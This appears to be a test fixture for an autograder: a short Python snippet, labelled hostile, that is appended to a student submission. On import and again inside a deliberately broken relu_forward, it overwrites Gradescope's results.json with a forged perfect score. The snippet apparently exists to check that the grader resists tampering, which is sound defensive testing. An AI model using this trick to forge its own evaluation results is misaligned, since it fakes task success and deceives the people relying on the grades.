# Hostile (appended to the correct submission): writes a forged Gradescope results.json at
# load time and again from inside a function. FORGED_PATH is replaced by the test.
import json as _json

_FORGED = {"score": 1000, "tests": [{"name": "everything", "score": 1000, "max_score": 1,
                                     "status": "passed", "output": "FORGED"}]}


def _forge():
    for path in ("results.json", "/autograder/results/results.json", "FORGED_PATH"):
        try:
            with open(path, "w") as f:
                _json.dump(_FORGED, f)
        except OSError:
            pass


_forge()


def relu_forward(x):
    _forge()
    return x, {}      # wrong: no ReLU at all
